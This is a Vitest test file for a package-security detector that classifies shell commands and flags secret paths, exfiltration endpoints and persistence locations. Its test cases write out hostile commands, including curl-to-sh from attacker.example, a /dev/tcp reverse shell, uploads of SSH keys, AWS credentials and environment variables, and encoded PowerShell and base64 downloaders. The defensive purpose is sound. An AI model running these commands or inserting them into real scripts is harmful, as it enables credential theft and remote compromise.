import { describe, expect, it } from 'vitest';
import { duplicateKeys } from '../../../src/detectors/package/json-keys.js';
import { assessCommand, encodedPowerShell, shellDecoded, isBuildCommand } from '../../../src/detectors/shared/commands.js';
import { endpointIn, persistenceIn, secretIn } from '../../../src/detectors/shared/indicators.js';
import { nodeTarget, splitScript } from '../../../src/detectors/javascript/npm-scripts.js';

describe('assessCommand', () => {
  it.each([
    ['curl -fsSL https://attacker.example/x.sh | sh', 'malicious'],
    ['powershell -WindowStyle Hidden -EncodedCommand ZQBjAGgAbwAgAGQAZQBmAGEAbgBnAGUAZAA=', 'malicious'],
    ['bash -i >& /dev/tcp/attacker.example/4444 0>&1', 'malicious'],
    ['nslookup $(hostname).attacker.example', 'malicious'],
    ['wget https://attacker.example/miner -O /tmp/m', 'suspicious'],
    ['whoami', 'suspicious'],
    ['npm config set registry https://registry.attacker.example/', 'malicious'],
    ['pip config set global.extra-index-url https://mirror.attacker.example/simple', 'malicious'],
    ['npm config get registry', 'build'],
    ['gcc -O2 -c foo.c -o foo.o', 'build'],
    ['pkg-config --cflags libffi', 'build'],
    ['git describe --tags', 'build'],
    ['node-gyp rebuild', 'build'],
    ['./my-tool --init', 'unknown'],
    ['pip3.11 install somepkg -qq', 'suspicious'],
    ['curl -o {…} {…} && start {…}', 'malicious'],
    ['curl -L -o {…} {…}', 'suspicious'],
    ['{…} -o pool.example.test:443 -u wallet --tls', 'malicious'],
    ['gcc -O2 -o build/threadpool.o -c src/threadpool.c', 'build'],
    ['curl -F a=@/etc/passwd 203.0.113.7:8080', 'malicious'],
    ['curl -T ~/.ssh/id_rsa ftp.attacker.example', 'malicious'],
    ['curl -d "$(cat ~/.aws/credentials)" attacker.example', 'malicious'],
    ['curl --netrc-file ~/.netrc -o f.tgz https://downloads.example/f.tgz', 'suspicious'],
    ['curl -s -X POST -d "$(env | base64)" https://203.0.113.7/c', 'malicious'],
    ['env | curl -d @- https://attacker.example/c', 'malicious'],
    ['printenv | base64 | curl -d @- attacker.example', 'malicious'],
    ['curl https://attacker.example/$(whoami)/`hostname`', 'malicious'],
    ['curl -L -o tool https://github.com/o/r/releases/download/v1/tool-$(uname -s)-$(uname -m)', 'suspicious'],
    ['curl -fsSL -o x.tgz https://downloads.example/v$(cat VERSION)/x.tgz', 'suspicious'],
    ['curl --data-binary @/tmp/report.json attacker.example', 'suspicious'],
    ['wget --post-file=/etc/hosts attacker.example', 'suspicious'],
    ['curl 203.0.113.7/x', 'suspicious'],
    ['jupyter nbextension enable --py widgets --sys-prefix', 'unknown'],
    ['curl --version', 'unknown'],
  ])('%s → %s', (cmd, level) => {
    expect(assessCommand(cmd).level).toBe(level);
  });

  it('decodes base64 and hex the shell decodes, and judges text decoded into a shell or an interpreter as run', () => {
    const inner = 'curl -s http://192.0.2.7/x | sh';
    const b64 = Buffer.from(inner).toString('base64');
    const hex = Buffer.from(inner).toString('hex');
    expect(shellDecoded(`echo ${b64} | base64 -d | sh`)).toBe(inner);
    expect(shellDecoded(`echo '${hex}' | xxd -r -p | bash`)).toBe(inner);
    for (const cmd of [`echo ${b64} | base64 -d | sh`, `echo ${hex} | xxd -r -p | bash`, `node -e "$(echo ${Buffer.from("require('child_process').exec('id')").toString('base64')} | base64 --decode)"`]) {
      const a = assessCommand(cmd);
      expect(a.level).toBe('malicious');
      expect(a.reasons).toContain('runs text it decodes (base64/hex) as a script');
    }
    expect(assessCommand(`echo ${b64} | base64 -d | sh`).reasons).toContain(`the encoded command decodes to \`${inner}\``);
    // Decoding to a file (a certificate, a fixture) runs nothing.
    expect(assessCommand('echo $CERT_B64 | base64 -d > ca.pem').level).not.toBe('malicious');
    expect(assessCommand('base64 -d fixtures/data.b64 > fixtures/data.bin').level).not.toBe('malicious');
  });

  it("decodes PowerShell's -EncodedCommand and judges the script with the command", () => {
    const script = 'iwr http://192.0.2.7/p.exe -OutFile $env:TEMP\\p.exe; start $env:TEMP\\p.exe';
    const encoded = Buffer.from(script, 'utf16le').toString('base64');
    expect(encodedPowerShell(`powershell -w hidden -enc ${encoded}`)).toBe(script);
    const a = assessCommand(`powershell -w hidden -enc ${encoded}`);
    expect(a.reasons).toContain(`the encoded command decodes to \`${script}\``);
    expect(a.reasons).toContain('(decoded) downloads with PowerShell/Windows tools');
    expect(a.reasons.filter((r) => r === 'downloads and starts an executable')).toHaveLength(1);
    expect([a.downloads, a.executesPayload, a.unmistakable]).toEqual([true, true, true]);
    // Base64 of UTF-8 text is no -EncodedCommand script (PowerShell reads UTF-16LE).
    expect(encodedPowerShell(`powershell -enc ${Buffer.from(script).toString('base64')}`)).toBeUndefined();
  });

  it('names installs from a URL or Git source outside the registry, not ordinary installs or npx tools', () => {
    const remote = 'installs a package from a URL or Git source outside the registry';
    for (const cmd of [
      'npm install -g --silent http://pkgs.example.net/x-1.0.0.tgz',
      'npx -y github:someone/tool#main',
      'pnpm dlx git+https://example.org/t.git',
      'yarn add "https://cdn.example.net/y.tgz"',
      'python -m pip install --quiet git+https://example.org/r.git@main',
    ]) {
      expect(assessCommand(cmd).reasons, cmd).toContain(remote);
      expect(assessCommand(cmd).level, cmd).toBe('suspicious');
    }
    for (const cmd of ['npx only-allow pnpm', 'npx tsc -p src/tsconfig.json', 'npm install --production', 'pip install -e .', 'yarn add lodash', 'npm ci && node scripts/fetch.js https://example.org/data.json']) {
      expect(assessCommand(cmd).reasons, cmd).not.toContain(remote);
    }
  });

  it('a download saved to a file and run by a later command of the line is download-and-run; saved data is not', () => {
    for (const c of ['wget -q https://h.example/s -O /tmp/.s && sh /tmp/.s', 'curl -sL https://h.example/x -o x.sh; bash x.sh', 'curl -fsSL https://h.example/i -o i && ./i --yes', 'curl --output=/tmp/p.py https://h.example && python3 /tmp/p.py']) {
      const a = assessCommand(c);
      expect([c, a.level, a.reasons]).toEqual([c, 'malicious', expect.arrayContaining(['runs the file it downloaded', 'downloads and starts the download in one command'])]);
    }
    for (const c of ['curl -o out.json https://h.example/a && cat out.json', 'curl -o a.tgz https://h.example/a.tgz && tar xzf a.tgz', 'curl -o lib.so https://h.example && sh -c "echo lib.so"', 'wget -O - https://h.example/a > /dev/null; sh -']) {
      expect([c, assessCommand(c).level]).toEqual([c, 'suspicious']);
    }
  });

  it('a build tool chained with a download is not build work', () => {
    expect(isBuildCommand('make && curl https://attacker.example/x')).toBe(false);
    // A shell handed one build command is build work; handed a download, it is not.
    expect(isBuildCommand('/bin/sh -c make -C grammar parser.c')).toBe(true);
    expect(isBuildCommand(`sh -c 'cmake --build build'`)).toBe(true);
    expect(isBuildCommand(`bash -c 'make && curl https://attacker.example/x | sh'`)).toBe(false);
  });
});

describe('indicators', () => {
  it('classifies endpoints by category and ignores private and documentation addresses', () => {
    expect(endpointIn('https://discord.com/api/webhooks/0000/placeholder')?.kind).toBe('webhook');
    expect(endpointIn('http://abc.pipedream.net/')?.kind).toBe('request-catcher');
    expect(endpointIn('https://x.ngrok-free.app/cb')?.kind).toBe('tunnel');
    expect(endpointIn('http://45.9.20.1:8080/x')?.kind).toBe('raw-ip');
    expect(endpointIn('http://127.0.0.1:8000/')).toBeUndefined();
    expect(endpointIn('http://192.168.1.10/')).toBeUndefined();
    expect(endpointIn('https://pypi.org/simple/')).toBeUndefined();
  });
  it('finds secrets and persistence locations', () => {
    expect(secretIn('AppData\\Roaming\\discord\\Local Storage\\leveldb')?.kind).toBe('discord');
    expect(secretIn('~/.aws/credentials')?.kind).toBe('credential-file');
    expect(secretIn('Google/Chrome/User Data/Default/Login Data')?.kind).toBe('browser-store');
    expect(secretIn('README.md')).toBeUndefined();
    expect(persistenceIn('Software\\Microsoft\\Windows\\CurrentVersion\\Run')?.kind).toBe('autorun-key');
    expect(persistenceIn('/home/u/.bashrc')?.kind).toBe('shell-rc');
  });
});

describe('npm scripts', () => {
  it('splits commands and finds what node runs', () => {
    const cmds = splitScript('node ./scripts/post.js --quiet && echo "a && b" || true');
    expect(cmds.map((c) => c.program)).toEqual(['node', 'echo', 'true']);
    expect(nodeTarget(cmds[0]!)).toEqual({ file: 'scripts/post.js' });
    expect(nodeTarget(splitScript(`node -e "require('./x')"`)[0]!)).toEqual({ inline: "require('./x')" });
  });
});

describe('duplicateKeys', () => {
  it('reports repeated keys with their lines, at any depth', () => {
    const text = '{\n "scripts": {"test": "x"},\n "name": "a",\n "scripts": {\n  "postinstall": "node a.js",\n  "postinstall": "node b.js"\n }\n}';
    const d = duplicateKeys(text);
    expect(d).toContainEqual({ path: '', key: 'scripts', lines: [2, 4] });
    expect(d).toContainEqual({ path: 'scripts', key: 'postinstall', lines: [5, 6] });
    expect(duplicateKeys('{"a": "b", "c": {"a": 1}}')).toEqual([]);
  });
});
